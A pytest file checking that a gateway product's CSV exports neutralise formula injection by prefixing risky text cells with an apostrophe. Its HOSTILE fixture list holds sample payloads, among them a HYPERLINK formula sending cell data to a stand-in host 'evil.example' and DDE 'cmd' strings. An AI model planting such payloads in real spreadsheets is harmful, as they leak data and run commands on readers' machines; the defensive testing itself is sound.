"""CSV formula injection: text cells starting with = + - @ TAB CR get a leading apostrophe in every
CSV the product writes (OWASP "CSV Injection"); numbers stay numbers. Read back with Python's csv
module and compared with what was put in."""

from __future__ import annotations

import copy
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from gateway.cli import main
from gateway.report.render import render
from gateway.store.db import Database, default_url
from gateway.store.models import Transmission

from conftest import DATA

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Tarutung", "12.02.01", "", "a=b", "Rp -", "'already quoted"]


def _expected(text: str) -> str:
    """OWASP's recipe, written out independently of the product's code."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def test_export_csv_neutralises_hostile_station_and_keeps_numbers(tmp_path: Path) -> None:
    data = tmp_path / "d"
    data.mkdir()
    db = Database(default_url(data))
    db.migrate()
    t0 = datetime(2026, 11, 20, 1, 0, tzinfo=UTC)  # 08:00 WIB
    names = HOSTILE + HARMLESS
    with db.write() as s:
        for i, name in enumerate(names):
            start = t0.replace(minute=i)
            s.add(Transmission(uid=f"u{i:030d}", started_at=start, audio_started_at=start,
                               ended_at=start.replace(second=30), duration_s=30.0, status="complete",
                               station=name or None, audio_path=f"-rec/{i}.ogg", sha256="=0" * 4))
    db.close()
    out = tmp_path / "tx.csv"
    assert main(["--data-dir", str(data), "export", "transmissions", "--date", "2026-11-20",
                 "--format", "csv", "--out", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["station"] for r in rows] == [_expected(n) for n in names]
    assert all(r["audio_path"].startswith("'-rec/") and r["sha256"] == "'" + "=0" * 4 for r in rows)
    assert [r["id"] for r in rows] == [str(i) for i in range(1, len(names) + 1)]
    assert {r["duration_s"] for r in rows} == {"30.0"}
    assert all(r["start"].startswith("2026-11-20T08:") for r in rows)


def test_report_csv_neutralises_station_need_and_incident_text() -> None:
    report = copy.deepcopy(json.loads((DATA / "report_example.json").read_text(encoding="utf-8")))
    stations = report["stations"][:len(HOSTILE)]
    for st, bad in zip(stations, HOSTILE, strict=True):
        st["station"] = bad
        st["needs"] = [{"item": bad}]
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    by_col = dict(zip(header, zip(*body, strict=True), strict=True))
    assert list(by_col["kecamatan"][:len(HOSTILE)]) == [_expected(b) for b in HOSTILE]
    assert list(by_col["kebutuhan"][:len(HOSTILE)]) == [_expected(b) for b in HOSTILE]
    untouched = [st["station"] for st in report["stations"][len(HOSTILE):]]
    assert list(by_col["kecamatan"][len(HOSTILE):]) == untouched  # ordinary names as they are
    for row in body:  # no cell anywhere starts a formula
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row), row


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_every_hostile_prefix_is_one_apostrophe(text: str) -> None:
    from gateway.export import csv_cell

    assert csv_cell(text) == _expected(text)
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5  # numbers are not text
